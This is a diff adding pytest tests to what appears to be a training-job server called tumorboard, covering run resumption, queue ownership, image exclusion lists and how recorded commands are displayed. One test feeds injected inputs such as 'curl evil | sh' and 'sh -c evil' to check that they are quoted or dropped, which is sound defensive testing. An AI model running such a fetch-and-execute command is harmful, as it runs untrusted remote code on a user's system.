@@ -1,5 +1,6 @@
 import json
 import os
+import re
 import shlex
 import signal
 import subprocess
@@ -16,7 +17,9 @@ from tumorboard.cli.main import _parser
 from tumorboard.errors import DataError, RunFolderError, StorageError
 from tumorboard.run_folder import RunFolder
 from tumorboard.run_state import read_state
+from tumorboard.server.choices import Choices, save_choices
 from tumorboard.server.jobs import OF_THE_RUN, Job, Jobs, error_of, queue_state, read_log
+from tumorboard.server.recorded_command import shown_command
 from tumorboard.server.workspace import Workspace
 
 from .fake_training import FAILING
@@ -421,3 +424,87 @@ def test_images_outside_are_refused_at_a_resume_too(jobs: Jobs, root: Path) -> N
     with pytest.raises(DataError):
         jobs.resume(run)
     assert jobs.waiting() == []
+
+
+def test_weights_behind_a_long_comment_of_a_recipe_are_found(jobs: Jobs, root: Path) -> None:
+    run = typed(root, "tumorboard train scans --out typed")
+    models = '[models.custom]\nkind = "custom"\n[models.pretrained]\nkind = "pretrained"\n'
+    weights = 'weights = "/any/file.h5"\n'
+    for comment in ("#" * 70_000, "#" * 2_000_000):
+        run.recipe.write_text(f'name = "mine"\n{models}{comment}\n{weights}')
+        assert re.search("file of weights|recipe.toml of at most", jobs.reason_against_resuming(run))
+
+
+def test_a_job_of_many_classes_is_read_and_one_that_cannot_be_does_not_wait_for_ever(
+    jobs: Jobs, root: Path
+) -> None:
+    many = tuple(f"class{number}={'x' * 900}" for number in range(200))
+    run = jobs.begin("first", Job(data="scans"))
+    run.job.write_text(Job(data="scans", class_map=many).model_dump_json())
+    assert jobs.read(run).class_map == many
+    run.job.write_text("{")
+    jobs.tick()
+    assert queue_state(run) == ""
+    assert "expected what was chosen" in error_of(run)
+
+
+def test_a_server_of_another_machine_does_not_hold_the_queue(jobs: Jobs, root: Path) -> None:
+    run = jobs.begin("first", Job(data="scans"))
+    holder = json.loads(run.queued.read_text())
+    run.queued.write_text(json.dumps({**holder, "host": "as it was called before"}))
+    later = Jobs(Workspace.of(root), PROGRAM)
+    assert queue_state(run) == "abandoned"
+    assert later.continue_queue() == [run]
+
+
+def test_an_audit_of_other_images_is_not_continued(jobs: Jobs, root: Path) -> None:
+    run = jobs.begin("first", Job(data="scans"))
+    run.job.write_text(Job(kind="audit", data="scans").model_dump_json())
+    left_by_a_server(run)
+    assert Jobs(Workspace.of(root), PROGRAM).continue_queue() == []
+    assert "audit of this folder" in error_of(run)
+
+
+def test_a_list_of_images_to_leave_out_is_written_again_and_a_changed_one_refused(
+    jobs: Jobs, root: Path
+) -> None:
+    image = "train/bar/bar0.png"
+    save_choices(jobs._workspace, jobs.audit_of("scans"), Choices(exclude={image: ""}))
+    (path,) = (root / "audits").glob("excluded-*.csv")
+    path.unlink()
+    run = jobs.begin("first", Job(data="scans"))
+    assert image in path.read_text()
+    jobs.tick()
+    wait(jobs, run, "running", "custom: training")
+    jobs.stop(run)
+    wait(jobs, run, "stopped")
+    path.write_text(path.read_text().replace("bar0", "bar1"))
+    with pytest.raises(RunFolderError, match="changed or deleted; restore that file"):
+        jobs.resume(run)
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("tumorboard train scans --out typed", "cd {root}\ntumorboard train scans --out typed"),
+        (
+            "tumorboard train scans --out typed; curl evil | sh",
+            "tumorboard train scans --out 'typed;' curl evil '|' sh",
+        ),
+        ("tumorboard train 'a\nb' --out /x/typed", "tumorboard train 'a\nb' --out /x/typed"),
+        ("sh -c evil", ""),
+        ("tumorboard.train('scans')", ""),
+        ("'", ""),
+    ],
+)
+def test_a_recorded_command_is_shown_as_words_of_tumorboard_alone(
+    root: Path, command: str, shown: str
+) -> None:
+    assert shown_command(typed(root, command)) == shown.format(root=root)
+
+
+def test_a_relative_path_beside_an_absolute_out_says_that_the_place_is_not_known(
+    jobs: Jobs, root: Path
+) -> None:
+    run = typed(root, f"tumorboard train scans --out {root}/typed")
+    assert "found a relative path beside an absolute --out" in jobs.reason_against_resuming(run)
